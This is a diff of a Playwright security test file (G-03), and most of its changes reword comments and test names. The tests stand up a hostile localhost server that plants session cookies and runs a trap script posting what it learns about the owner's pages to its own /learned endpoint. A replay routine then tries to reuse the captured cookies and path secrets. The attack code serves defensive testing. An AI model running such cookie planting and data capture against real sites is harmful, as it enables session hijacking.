@@ -1,4 +1,5 @@
-// A hostile server on another port of 127.0.0.1: nothing that a browser sends there opens the owner's session (G-03).
+// A hostile server on another port of 127.0.0.1: nothing that a browser sends there gives access to the owner's session
+// (G-03).
 import { createServer, type IncomingMessage, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import type { BrowserContext, Page } from "playwright-core";
@@ -10,7 +11,7 @@ import { OWNER } from "../oauth/owner-browser.ts";
 import { ask, discover, register } from "../oauth/world.ts";
 import { startBrowser, type TestBrowser } from "./browser.ts";
 
-/** Cookies are scoped by path, so it serves every path that Postern serves. */
+/** Cookies are scoped by path, so the hostile server serves every path that Postern serves. */
 const PATHS = [
   "/",
   "/again",
@@ -32,7 +33,7 @@ const PATHS = [
 
 interface Hostile {
   url: string;
-  /** Everything it received: request lines, headers and bodies. */
+  /** Everything the hostile server received: request lines, headers and bodies. */
   heard: string[];
   cookies: Set<string>;
   /** Resolves when the browser has sent this text. */
@@ -53,7 +54,7 @@ async function startHostile(target: string): Promise<Hostile> {
   const server: Server = createServer(async (request, answer) => {
     await take(request);
     const { pathname, search } = new URL(request.url!, "http://x");
-    // It may set cookies for the whole host, and so try to plant a session or to replace the real one.
+    // The hostile server can set cookies for the whole host, so it tries to plant a session or replace the real one.
     answer.setHeader("Set-Cookie", ["pdpp_session=planted; Path=/", "pdpp_device=planted; Path=/"]);
     if (pathname === "/trap") answer.setHeader("Content-Type", "text/html").end(trap(target));
     else if (pathname === "/trap.js") answer.setHeader("Content-Type", "text/javascript").end(TRAP_SCRIPT);
@@ -82,7 +83,10 @@ ${PATHS.map((path) => `<img src="${path}?image"><iframe src="${path}?frame"></if
 <form method="post" action="/dashboard/apps" target="posted"><input name="x" value="1"></form><iframe name="posted"></iframe>
 <script src="/trap.js"></script>`;
 
-/** Runs on the hostile page, on the same host and another port, and sends home what it can learn about the owner's pages. */
+/**
+ * Runs on the hostile page, on the same host but another port, and reports back what it can learn about the owner's
+ * pages.
+ */
 const TRAP_SCRIPT = `
 const target = document.getElementById("target").dataset.url;
 const tell = (what) => fetch("/learned", { method: "POST", body: String(what) }).catch(() => {});
@@ -131,7 +135,10 @@ async function signedIn(javaScript = true): Promise<{ context: BrowserContext; p
   return { context, page };
 }
 
-/** Tries to sign in with the received data, as a program would: every cookie, every path part that looks like a secret. */
+/**
+ * Tries to sign in with the received data, as an attacker's program would: with every cookie, and every path segment
+ * that looks like a secret.
+ */
 async function replay(): Promise<void> {
   const before = (await server.all("/v1/grants")).length;
   const prefixes = new Set(["", ...hostile.heard.flatMap((text) => text.match(/\/~[\w-]{8,}/g) ?? [])]);
@@ -156,9 +163,9 @@ async function replay(): Promise<void> {
   expect((await server.all("/v1/grants")).length).toBe(before);
 }
 
-test("G-03 a server on another port gets a click, images, frames, forms, fetches and a popup, and cannot use what it received", async () => {
+test("G-03 a server on another port receives a click, images, frames, forms, fetches and a popup, and cannot use anything it received", async () => {
   const { context, page } = await signedIn();
-  // A link on one of our pages, as in a record or an app's address.
+  // A link on one of our pages, such as one in a record or an app's address.
   await page.evaluate(
     `document.querySelector("main").insertAdjacentHTML("beforeend", '<a id="lure" href="${hostile.url}/trap">click me</a>')`,
   );
@@ -166,19 +173,19 @@ test("G-03 a server on another port gets a click, images, frames, forms, fetches
   await page.locator("#lure").click();
   await done;
   for (const path of PATHS) await page.goto(hostile.url + path);
-  // A redirect from there to here and a link back reveal nothing either.
+  // A redirect from the hostile server to Postern and a link back reveal nothing either.
   await page.goto(`${hostile.url}/bounce`);
   await page.goto(`${hostile.url}/again`);
   expect(hostile.heard.length).toBeGreaterThan(PATHS.length * 3);
   await replay();
-  // The owner is still signed in: the planted cookies replace nothing.
+  // The owner is still signed in, because the planted cookies replace nothing.
   const own = await context.newPage();
   await own.goto(`${server.url}/dashboard/apps`);
   await own.waitForURL(/\/dashboard\/apps$/);
   await expect.poll(() => own.locator(".owner-name").textContent()).toBe(OWNER.name);
 });
 
-test("G-03 an app on another port that requests access learns nothing with which it could approve its own request", async () => {
+test("G-03 an app on another port that requests access learns nothing that lets it approve its own request", async () => {
   const { page } = await signedIn();
   const as = await discover(server.url);
   const client = await register({ as }, { redirect_uris: [`${hostile.url}/callback`] });
@@ -186,7 +193,7 @@ test("G-03 an app on another port that requests access learns nothing with which
   await page.goto(href);
   await page.locator("form.consent").waitFor();
   const at = new URL(page.url());
-  // Hostile pages at the same paths as the request.
+  // The hostile server has pages at the same paths as the request.
   for (const path of [at.pathname.replace(/^\/~[^/]+/, ""), "/oauth/authorize", "/oauth/interaction", "/oauth/"]) {
     await page.goto(hostile.url + path);
   }
@@ -204,7 +211,7 @@ test("G-03 an app on another port that requests access learns nothing with which
   }
 });
 
-test("G-03 without JavaScript the owner stays signed in through links and forms", async () => {
+test("G-03 without JavaScript, the owner stays signed in through links and forms", async () => {
   const { page } = await signedIn(false);
   for (const place of ["Apps", "Settings", "Timeline"]) {
     await page.locator("nav.nav a", { hasText: place }).click();
